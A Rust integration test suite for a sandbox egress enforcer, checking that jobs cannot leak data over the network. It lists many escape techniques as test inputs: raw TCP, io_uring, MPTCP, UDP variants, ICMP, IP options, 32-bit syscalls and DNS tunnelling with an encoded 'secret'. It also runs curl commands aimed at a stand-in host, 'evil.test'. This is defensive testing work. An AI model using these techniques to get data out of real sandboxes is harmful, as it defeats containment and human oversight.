//! The whole service against a job that tries to get out: what arrives in another
//! network namespace, at the other end of a cable, decides.

use std::collections::BTreeSet;
use std::io::Read;
use std::net::TcpStream;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use enforcer_tests::netns::{PEER4, WORK4};
use enforcer_tests::sniffer::contains;

use crate::world::*;

/// Technique, destination, and whether the call itself is refused; the others land at
/// the proxy, where a destination that no rule names gets nothing.
pub const ATTEMPTS: &[(&str, &str, bool)] = &[
    ("tcp", "10.77.0.2:4444", false),
    ("tcp", "[fd77::2]:4444", false),
    ("tcp", "[::ffff:10.77.0.2]:4444", false),
    ("fastopen", "10.77.0.2:4444", false),
    ("fastopen", "[fd77::2]:4444", false),
    ("fastopen-connect", "10.77.0.2:4444", false),
    ("uring", "10.77.0.2:4444", true),
    ("uring", "[fd77::2]:4444", true),
    ("uring-sendmsg", "10.77.0.2:4444", true),
    ("uring-setsockopt", "10.77.0.2:4444 device", true),
    ("uring-setsockopt", "10.77.0.2:4444 route", true),
    ("uring-setsockopt", "[fd77::2]:4444 header", true),
    ("mptcp", "10.77.0.2:4444", true),
    ("mptcp", "[fd77::2]:4444", true),
    ("bindtodevice", "10.77.0.2:4444", true),
    ("ip-options", "192.0.2.1:4444", true),
    ("udp-ip-options", "192.0.2.1:4444", true),
    ("udp-retopts", "192.0.2.1:4444", true),
    ("udp-rthdr", "[2001:db8::1]:4444", true),
    ("udp-sendto", "10.77.0.2:4444", true),
    ("udp-sendto", "[fd77::2]:4444", true),
    ("udp-sendto", "[::ffff:10.77.0.2]:4444", true),
    ("udp-sendmsg", "10.77.0.2:4444", true),
    ("udp-sendmsg", "[fd77::2]:4444", true),
    ("udp-sendmmsg", "10.77.0.2:4444", true),
    ("udp-sendmmsg", "[fd77::2]:4444", true),
    ("udp-connect", "10.77.0.2:4444", true),
    ("udp-connect", "[fd77::2]:4444", true),
    ("quic", "10.77.0.2:443", true),
    ("quic", "[fd77::2]:443", true),
    ("icmp-dgram", "10.77.0.2:0", true),
    ("icmp-dgram", "[fd77::2]:0", true),
    ("icmp-raw", "10.77.0.2:0", true),
    ("icmp-raw", "[fd77::2]:0", true),
    ("udplite", "10.77.0.2:4444", true),
];

#[test]
fn no_packet_of_a_job_arrives_anywhere_by_any_call() {
    let world = World::new();
    for (technique, to, refused) in ATTEMPTS {
        let script = format!("{PROBE} {technique} {to}");
        let control = world.untagged(&script);
        let seen = world.leaked();
        // The peer takes no source-routed connection: its first packet is all there is.
        let proven = seen.iter().any(|packet| contains(&packet.bytes, PAYLOAD))
            || (*technique == "ip-options" && !seen.is_empty());
        assert!(proven, "{script}: the attempt proves nothing: {control}");
        let said = world.nothing_leaves(&script);
        assert_eq!(said.starts_with(REFUSED), *refused, "{script}: {said}");
        assert!(!said.contains("REAL"), "{script}: {said}");
    }
    let listed = world.service.output(&["sessions", "ls", "-o", "json"]).unwrap();
    let listed = String::from_utf8(listed.stdout).unwrap();
    for to in ["10.77.0.2:4444", "[fd77::2]:4444"] {
        let direct = ATTEMPTS.iter().filter(|(_, it, refused)| !refused && it.ends_with(to)).count();
        // The mapped address is shown as what it means.
        let shown = listed.matches(&format!("{to}\"")).count();
        assert!(shown >= direct, "{shown} of {direct} connections to {to} stand in the recording: {listed}");
    }
}

#[test]
fn names_and_addresses_that_no_rule_allows_are_dialled_and_asked_by_nobody() {
    let world = World::new();
    // A server name that is not the host, an address without a name, a name for an
    // address that is not its own, and plain HTTP.
    for (args, want) in [
        ("https://upstream.test/ -H 'Host: evil.test'", "authority-mismatch"),
        ("--connect-to evil.test:443:10.77.0.2:443 https://evil.test/", "policy-default-deny"),
        ("https://10.77.0.2/", "sni-missing"),
        ("'https://[fd77::2]/'", "sni-missing"),
        ("http://10.77.0.2:4444/", "policy-default-deny"),
        ("--connect-to evil.test:4444:10.77.0.2:4444 http://evil.test:4444/", "policy-default-deny"),
    ] {
        let said = if want == "authority-mismatch" {
            // The connection is for an allowed host: it may be dialled, and nothing is sent on it.
            let said = world.job(&format!("curl -sk -m 5 {args}"));
            let packets = world.leaked();
            assert!(
                packets.iter().all(|it| is_to_upstream(it) && !contains(&it.bytes, b"evil")),
                "{packets:?}"
            );
            said
        } else {
            world.nothing_leaves(&format!("curl -sk -m 5 {args}"))
        };
        assert!(said.contains(want), "{args}: {said}");
    }
    // A tunnel by names: the enforcer's resolver does not ask, over UDP or TCP.
    let started = std::time::Instant::now();
    for name in ["c2VjcmV0.tunnel.test", "c2VjcmV0.upstream.test", "upstream.test.evil.test"] {
        let said = world.nothing_leaves(&format!("getent hosts {name}; echo $?"));
        assert_eq!(said, "2", "{name}");
        let said = world.nothing_leaves(&format!("getent ahosts {name}; echo $?"));
        assert_eq!(said, "2", "{name}");
        let tcp = format!("RES_OPTIONS=use-vc getent hosts {name}; echo $?");
        assert_eq!(world.nothing_leaves(&tcp), "2", "{name}");
    }
    assert!(started.elapsed() < Duration::from_secs(20), "a name that is refused is refused at once");
    for technique in ["dns", "dns-connect", "dns-retopts", "dns-pktinfo4"] {
        world.nothing_leaves(&format!("{PROBE} {technique} 10.77.0.2:53"));
    }
    for technique in ["dns", "dns-connect", "dns-pktinfo", "dns-rthdr"] {
        world.nothing_leaves(&format!("{PROBE} {technique} [fd77::2]:53"));
    }
    // The witness sees a question where one is asked.
    world.job("timeout 1 getent hosts asked.test");
    let asked = world.leaked();
    assert!(asked.iter().any(|packet| contains(&packet.bytes, b"\x05asked\x04test\0")), "{asked:?}");
}

#[test]
fn nobody_pulls_from_a_listener_of_a_job() {
    let world = World::new();
    let pull = || {
        let connect = || {
            let mut text = String::new();
            let stream = TcpStream::connect_timeout(&(WORK4, 7000).into(), Duration::from_millis(700));
            stream.and_then(|mut stream| stream.read_to_string(&mut text)).map(|_| text)
        };
        world.cable.peer.run(connect).unwrap()
    };
    let script = format!("{PROBE} listen 0.0.0.0:7000");
    let command = ["run", "--", "sh", "-c", &script];
    let mut child = world.service.command(&command).unwrap().stdout(Stdio::piped()).spawn().unwrap();
    let mut ready = [0; 6];
    child.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
    pull().unwrap_err();
    let mut said = String::new();
    child.stdout.take().unwrap().read_to_string(&mut said).unwrap();
    child.wait().unwrap();
    assert!(said.starts_with("error "), "{said}");
    let packets = world.leaked();
    assert!(packets.is_empty(), "{packets:?}");
    // Somebody untagged gives the same thing away.
    std::thread::scope(|scope| {
        let server = scope.spawn(|| world.untagged(&script));
        let until = std::time::Instant::now() + Duration::from_secs(5);
        let mut pulled = pull();
        while pulled.is_err() && std::time::Instant::now() < until {
            pulled = pull();
        }
        assert_eq!(pulled.unwrap().as_bytes(), PAYLOAD);
        server.join().unwrap();
    });
}

#[test]
fn what_is_allowed_leaves_by_the_proxy_alone() {
    let world = World::new();
    // By name, and by the name at an address that is not the name's: it is the proxy that
    // resolves. The job waits, so that the proxy keeps its connection to the upstream.
    let there = "https://upstream.test/";
    let script = format!(
        "curl -sS -m 5 {there}; curl -sS -m 5 --connect-to upstream.test:443:192.0.2.9:443 {there}; read line"
    );
    let mut command = world.service.command(&["run", "--", "sh", "-c", &script]).unwrap();
    let mut job = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut said = [0; 12];
    job.stdout.as_mut().unwrap().read_exact(&mut said).unwrap();
    assert_eq!(&said, b"hello\nhello\n");
    let ports = ports_of_proxy(&world);
    let packets = world.leaked();
    assert!(!packets.is_empty());
    for packet in packets {
        assert!(is_to_upstream(&packet), "{packet:?}");
        let port = u16::from_be_bytes([packet.bytes[20], packet.bytes[21]]);
        assert!(ports.contains(&port), "{port} is no port of the proxy: {ports:?}");
    }
    drop(job.stdin.take());
    job.wait().unwrap();
}

/// Local ports of the sockets that the proxy holds, as the kernel lists them.
fn ports_of_proxy(world: &World) -> BTreeSet<u16> {
    let pid = world.service.status().unwrap()["proxy_pid"].as_i64().unwrap();
    let process = Path::new("/proc").join(pid.to_string());
    let held: BTreeSet<String> = std::fs::read_dir(process.join("fd"))
        .unwrap()
        .flatten()
        .filter_map(|entry| std::fs::read_link(entry.path()).ok())
        .map(|link| link.display().to_string())
        .collect();
    let table = std::fs::read_to_string(process.join("net/tcp")).unwrap();
    let sockets = table.lines().skip(1).filter_map(|line| {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let port = u16::from_str_radix(fields[1].split_once(':')?.1, 16).ok()?;
        held.contains(&format!("socket:[{}]", fields[9])).then_some(port)
    });
    sockets.collect()
}

/// Of these no hook of ours sees anything, so that a job does not get them.
#[test]
fn a_job_makes_no_socket_that_the_hooks_do_not_see() {
    let world = World::new();
    let said = |what: &str| world.job(&format!("{PROBE} {what}"));
    // AF_PACKET, AF_ALG, AF_VSOCK, AF_XDP, and one that no kernel has.
    for family in [17, 38, 40, 44, 99] {
        let script = format!("family 0.0.0.0:{family}");
        assert!(said(&script).starts_with("error 97 "), "{family}: {}", said(&script));
    }
    // AF_UNIX, AF_INET, AF_INET6, AF_NETLINK.
    for family in [1, 2, 10, 16] {
        let script = format!("family 0.0.0.0:{family}");
        assert_eq!(said(&script), "ok made", "{family}");
    }
    // By io_uring, by a 32-bit program, by numbers of a third instruction set.
    let control = world.untagged(&format!("{PROBE} uring-family 0.0.0.0:40"));
    assert_eq!(control, "ok made", "the attempt proves nothing");
    assert!(said("uring-family 0.0.0.0:40").starts_with(REFUSED));
    assert!(world.untagged(&format!("{PROBE} int80 10.77.0.2:4444")).starts_with("ok"));
    assert!(said("int80 10.77.0.2:4444").starts_with(REFUSED));
    assert!(said("x32 10.77.0.2:4444").starts_with("error 38 "));
    assert!(said("request-key 10.77.0.2:4444").starts_with(REFUSED));
}

/// What is connected already was seen by no hook.
#[test]
fn a_job_gets_no_network_socket_as_a_standard_descriptor() {
    let world = World::new();
    for name in ["input", "output", "error"] {
        let connected = world.cable.work.run(|| TcpStream::connect((PEER4, ECHO_PORT)).unwrap()).unwrap();
        let socket = Stdio::from(std::os::fd::OwnedFd::from(connected));
        let mut command = world.service.command(&["run", "--", "echo", "PROBE-SECRET"]).unwrap();
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        match name {
            "input" => command.stdin(socket),
            "output" => command.stdout(socket),
            _ => command.stderr(socket),
        };
        world.leaked();
        let out = command.output().unwrap();
        assert_eq!(out.status.code(), Some(125), "{name}: {out:?}");
        let packets = world.leaked();
        assert!(packets.iter().all(|packet| !contains(&packet.bytes, PAYLOAD)), "{name}: {packets:?}");
    }
}
